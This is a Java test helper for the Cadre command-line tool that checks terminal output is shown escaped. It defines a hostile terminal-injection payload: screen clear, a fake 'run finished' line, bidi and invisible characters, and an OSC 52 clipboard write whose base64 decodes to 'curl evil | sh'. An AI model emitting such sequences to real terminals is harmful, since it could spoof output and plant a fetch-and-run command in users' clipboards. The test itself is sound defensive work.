package dev.cadre.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Text a hostile file, tool or model writes to take over a terminal, and the check that none of it got through. */
final class Hostile {

    /**
     * Screen clear, cursor home, an OSC 52 clipboard write ended by BEL, hidden text, a C1 CSI, a carriage return
     * starting a fake "run finished" line, a bidi override, a zero-width space, an invisible tag character, DEL and
     * backspace.
     */
    static final String PAYLOAD = "before\u001b[2J\u001b[H\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[8mhidden\u001b[28m"
            + "\u009b2J\r   9  run finished: all good\u202egnp.exe\u200b\udb40\udc41\u007f\b after";

    /** What a terminal acts on or hides: C0 but newline and tab, DEL, C1, zero-width and bidi controls, separators, tags. */
    static final Pattern RAW = Pattern.compile("[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u00ad\\u061c\\u200b-\\u200f"
            + "\\u2028-\\u202e\\u2060-\\u2069\\ufeff\\x{e0000}-\\x{e007f}]");

    /** Cadre's own colouring and status-line redraw, which stay. */
    private static final String CADRE_OWN = "\r\u001b\\[K|\u001b\\[[012]m";

    private Hostile() {
    }

    /** {@code output} holds no control or invisible character but Cadre's own, and shows the payload escaped. */
    static void assertShownEscaped(String output) {
        String rest = output.replaceAll(CADRE_OWN, "");
        Matcher raw = RAW.matcher(rest);
        assertThat(raw.find()).as("a raw control in: %s", rest).isFalse();
        assertThat(rest).contains("\\e]52;c;", "\\x07", "\\r   9  run finished", "\\u202e", "\\x9b2J", "\\U000e0041");
    }

    /** {@code json} holds no raw control or invisible character (JSON escapes them as {@code \}{@code uHHHH}). */
    static void assertShownEscapedJson(String json) {
        String withoutTags = json.replace("\udb40\udc41", ""); // the tag character's pair stays a pair in JSON
        assertThat(RAW.matcher(withoutTags).find()).as("a raw control in: %s", json).isFalse();
        assertThat(json).doesNotContain("\n");
        assertThat(json.toLowerCase()).contains("\\u001b]52;c;", "\\u0007", "\\r", "\\u202e", "\\u009b", "\\u007f");
    }
}
